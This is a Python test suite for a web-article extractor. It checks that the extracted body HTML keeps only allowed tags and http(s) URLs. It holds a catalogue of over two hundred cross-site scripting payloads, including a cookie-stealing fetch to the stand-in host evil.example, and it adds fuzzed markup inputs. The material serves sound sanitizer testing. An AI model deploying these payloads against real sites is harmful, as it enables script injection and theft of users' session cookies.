"""The body as HTML: what is rebuilt from allowed elements cannot carry anything else."""

from __future__ import annotations

import html
import itertools
import re

import nh3
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from page_builders import TEXT, Sample, dress_columns, read_article

ALLOWED = {
    "p", "h2", "h3", "h4", "ul", "ol", "li", "table", "tr", "td", "th", "blockquote", "strong", "em", "a", "br",
    "figure", "img", "figcaption",
}  # fmt: skip
ATTRIBUTES = {"a": {"href"}, "img": {"src"}}
TAG = re.compile(r"<(/?)([a-z0-9]+)((?:\s+[a-z]+=\"[^\"<>]*\")*)>")


def assert_clean(markup: str | None) -> None:
    if markup is None:
        return
    text = TAG.sub("", markup)
    assert not set(text) & set("<>")
    for _, tag, attributes in TAG.findall(markup):
        assert tag in ALLOWED
        for name, value in re.findall(r'([a-z]+)="([^"]*)"', attributes):
            assert name in ATTRIBUTES.get(tag, ())
            assert html.unescape(value).startswith(("http://", "https://"))
    cleaned = nh3.clean(
        markup,
        tags=ALLOWED,
        attributes=ATTRIBUTES,
        url_schemes={"http", "https"},
        link_rel=None,
        strip_comments=True,
    )
    # HTML parsers put the rows of a table into a body of their own; nh3 writes it out as text without tags.
    assert _bare(cleaned) == _bare(markup)


def _bare(markup: str) -> str:
    return html.unescape(markup.replace("<tbody>", "").replace("</tbody>", ""))


SCRIPTS = [
    "alert(1)",
    "window.stop()",
    "document.location='//evil.example'",
    "fetch('//evil.example/'+document.cookie)",
]
FORMS = [
    "<script>{0}</script>", "<SCRIPT SRC=//evil.example/x.js>{0}</SCRIPT>", "<scr<script>ipt>{0}</scr</script>ipt>", "<script\x20type=text/javascript>{0}</script>",
    "<img src=x onerror={0}>", '<img src="x" onerror="{0}">', "<img src='javascript:{0}'>", "<img src=`javascript:{0}`>", '<img """><script>{0}</script>">',
    "<img src=/a.jpg style=\"background:url('javascript:{0}')\">", "<img lowsrc='javascript:{0}' src='data:text/html,{0}'>",
    "<a href='javascript:{0}'>go</a>", "<a href='JaVaScRiPt:{0}'>go</a>", "<a href=' &#14; javascript:{0}'>go</a>", "<a href='java\tscript:{0}'>go</a>",
    "<a href='java\nscript:{0}'>go</a>", "<a href='&#106;avascript:{0}'>go</a>", "<a href='vbscript:{0}'>go</a>", "<a href='data:text/html,<script>{0}</script>'>go</a>",
    "<a href='//evil.example\" onclick=\"{0}'>go</a>", "<a onmouseover=\"{0}\" href='/a'>go</a>", "<a href='/a' style='behavior:url(x)'>go</a>",
    "<svg onload={0}><script>{0}</script></svg>", "<svg><a xlink:href='javascript:{0}'><text>x</text></a></svg>", "<math><mi xlink:href='javascript:{0}'>x</mi></math>",
    "<iframe src='javascript:{0}'></iframe>", "<iframe srcdoc='<script>{0}</script>'></iframe>", "<object data='javascript:{0}'></object>", "<embed src='javascript:{0}'>",
    "<form action='javascript:{0}'><input type=submit></form>", "<button onclick='{0}'>x</button>", "<input onfocus={0} autofocus>", "<details open ontoggle={0}>x</details>",
    "<video onerror={0}><source src=x></video>", "<audio src=x onerror={0}>", "<marquee onstart={0}>x</marquee>", "<body onload={0}>", "<div style='width:expression({0})'>x</div>",
    "<style>*{{background:url('javascript:{0}')}}</style>", "<link rel=stylesheet href='javascript:{0}'>", "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<base href='javascript:{0}//'>", "<table background='javascript:{0}'><tr><td onclick='{0}'>a</td><td>b</td></tr></table>", "<!--<img src='--><img src=x onerror={0}//'>",
    "<![CDATA[<script>{0}</script>]]>", "<noscript><p title='</noscript><img src=x onerror={0}>'>", "<template><script>{0}</script></template>", "<xss onclick={0} tabindex=1>x</xss>",
    "&lt;script&gt;{0}&lt;/script&gt;", "<p title='\"><script>{0}</script>'>x</p>", "<a href='http://a/\"><script>{0}</script>'>go</a>", "<textarea><script>{0}</script></textarea>",
]  # fmt: skip
ATTACKS = [form.format(script) for form, script in itertools.product(FORMS, SCRIPTS)]


def test_there_are_two_hundred_attacks():
    assert len(set(ATTACKS)) >= 200


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_of_an_attack_survives(attack):
    page = read_article(
        dress_columns(
            Sample().with_blocks(f"<p>{TEXT[0]}</p>", f"<p>Before {attack} after.</p>", f"<p>{TEXT[1]}</p>")
        )
    )
    assert_clean(page.body_html)
    for url in [
        *(image.url for image in page.images),
        *(film.url for film in page.videos),
        *(link.url for link in page.inline_links),
    ]:
        assert url.startswith(("http://", "https://"))


markup = st.recursive(
    st.text(max_size=12),
    lambda inner: st.builds(
        "<{0} {2}>{1}</{0}>".format,
        st.sampled_from(
            [
                "p",
                "b",
                "i",
                "em",
                "a",
                "div",
                "span",
                "ul",
                "li",
                "table",
                "tr",
                "td",
                "th",
                "h2",
                "h5",
                "blockquote",
                "script",
                "style",
                "font",
                "center",
            ]
        ),
        st.lists(inner, max_size=4).map("".join),
        st.sampled_from(
            [
                "",
                'href="/a b"',
                "href='x\"y'",
                "onclick=x",
                'style="display:none"',
                "href=javascript:x",
                'src="//h/<>"',
            ]
        ),
    ),
    max_leaves=12,
)


@settings(max_examples=150, deadline=None)
@given(markup)
def test_any_markup_comes_out_clean(inner):
    assert_clean(
        read_article(
            dress_columns(Sample().with_blocks(f"<p>{TEXT[0]}</p>", f"<div>{inner}</div>"))
        ).body_html
    )
